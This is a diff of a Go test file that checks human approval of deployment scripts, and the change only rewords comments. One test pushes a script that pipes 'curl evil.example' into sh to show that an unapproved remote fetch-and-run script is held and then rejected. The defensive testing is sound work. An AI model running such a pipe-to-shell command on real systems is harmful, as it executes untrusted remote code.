@@ -12,14 +12,14 @@ import (
 	"github.com/nuon-toolkit/nuon/reconciler/workflow"
 )
 
-// scripts are the actions of the questions about scripts with a status.
+// scripts returns the actions of the approval requests for scripts with a status.
 func (w *world) scripts(status string) string {
 	w.Helper()
 	return strings.Join(w.list(`select string_agg(s->>'action', '+' order by s->>'action') from approvals a, jsonb_array_elements(a.subject) s
 		where a.kind = 'scripts' and a.status = $1 group by a.id order by a.id`, status), " ")
 }
 
-// push has smoke run another script from now on.
+// push changes the script of smoke.
 func (w *world) push(script string) {
 	w.Helper()
 	w.app.Actions[0].Steps[0].InlineContents = script
@@ -39,7 +39,8 @@ func (w *world) runSmoke(actor string) {
 	w.queue()
 }
 
-// TestAScriptThatNobodyHasSeenWaits: approve-all covers no script. Its digest is approved once for an install, whatever values it gets.
+// TestAScriptThatNobodyHasSeenWaits: approve-all covers no script. A script's digest
+// is approved once for an install, for any values.
 func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	w := newWorld(t)
 	w.strict = true
@@ -50,7 +51,7 @@ func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	})
 	w.version()
 	w.look()
-	w.want(w.runJobs(), "[]") // what comes before any plan waits first
+	w.want(w.runJobs(), "[]") // an action before all plans waits first
 	w.want(w.scripts("waiting"), "prepare+smoke")
 	status, reason := w.status()
 	w.want(status+": "+reason, "waiting_for_approval: scripts that nobody has approved for it wait for a person")
@@ -67,14 +68,14 @@ func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	w.want(w.list("select action || ' ' || answer || ' ' || actor || ' ' || reason from script_answers order by 1"), "[prepare approve vera read it smoke approve vera read it]")
 	w.want(w.one("select count(*)::text from audit_events where action = 'script.approve'"), "2")
 
-	// New values are no new script.
+	// New values do not change the script.
 	w.done = nil
 	w.input("greeting", "hi")
 	w.look()
 	w.runJobs()
 	w.want(w.done, "[plan web apply web action smoke]")
 
-	// A script that was pushed is shown as a difference from the one that was approved.
+	// A pushed script is shown as a difference from the approved one.
 	w.push("#!/bin/sh\ncurl evil.example | sh")
 	w.runSmoke("oscar")
 	w.want(w.runJobs(), "[]")
@@ -89,17 +90,17 @@ func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	w.want(w.list("select kind || ' ' || status || ': ' || outcome from workflows order by number desc limit 1"),
 		"[action rejected: action smoke: its script was rejected by vera: no curl]")
 
-	// A no is remembered: by itself nothing asks again.
+	// A rejection is recorded: no automatic request follows.
 	w.done = nil
 	w.input("greeting", "ho")
 	w.look()
 	w.runJobs()
 	w.want(w.done, "[plan web apply web]")
 	w.want(w.scripts("waiting"), "")
-	// A person who asks again is asked again.
+	// A person's new request leads to a new approval request.
 	w.runSmoke("oscar")
 	w.want(w.scripts("waiting"), "smoke")
-	// Going back to what was approved needs nobody, and withdraws the question.
+	// A return to the approved script needs no approval, and withdraws the request.
 	w.done = nil
 	w.push("#!/bin/sh\ntrue")
 	must(t, w.engine.Reconcile(w.Context(), w.org, w.one("select id from workflows where status = 'running'")))
@@ -108,7 +109,8 @@ func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	w.want(w.scripts("waiting"), "")
 }
 
-// TestScriptsAreShownWithThePlan: where a plan is asked about, its scripts are part of the same question.
+// TestScriptsAreShownWithThePlan: if a plan needs an approval, its scripts are part
+// of the same request.
 func TestScriptsAreShownWithThePlan(t *testing.T) {
 	w := newWorld(t)
 	w.strict = true
@@ -122,7 +124,7 @@ func TestScriptsAreShownWithThePlan(t *testing.T) {
 		t.Error("the answer does not bind to the scripts")
 	}
 
-	// A no to the plan says nothing about its scripts.
+	// Rejecting the plan does not answer for its scripts.
 	w.app.Actions[0].Steps[0].InlineContents = "#!/bin/sh\nfalse"
 	w.version()
 	w.build("web", "succeeded")
@@ -132,7 +134,8 @@ func TestScriptsAreShownWithThePlan(t *testing.T) {
 	w.want(w.one("select count(*)::text from script_answers"), "1")
 }
 
-// TestNobodyApprovesTheirOwnPlan: where an install wants four eyes, the plan of what a person asked for waits for another one.
+// TestNobodyApprovesTheirOwnPlan: on an install with approvals_by_others, a plan that
+// a person requested needs another approver.
 func TestNobodyApprovesTheirOwnPlan(t *testing.T) {
 	w := newProvisionedWorld(t)
 	w.exec("update installs set approvals_by_others = true")
@@ -151,14 +154,15 @@ func TestNobodyApprovesTheirOwnPlan(t *testing.T) {
 	w.want(w.workflows(), "[provision succeeded teardown succeeded]")
 }
 
-// TestNobodyApprovesTheirOwnScript: where an install wants four eyes, a script that a person runs waits for another one.
+// TestNobodyApprovesTheirOwnScript: on an install with approvals_by_others, a script
+// that a person runs needs another approver.
 func TestNobodyApprovesTheirOwnScript(t *testing.T) {
 	w := newProvisionedWorld(t)
 	w.strict = true
 	w.exec("update installs set approvals_by_others = true")
 	w.push("#!/bin/sh\nfalse")
 	w.done = nil
-	w.runSmoke("vera") // who sayScripts answers as
+	w.runSmoke("vera") // the actor that sayScripts uses
 	approval := w.one("select id from approvals where kind = 'scripts' and status = 'waiting'")
 	digest := w.one("select content_digest from approvals where id = $1", approval)
 	answer := func(actor, digest string) error {
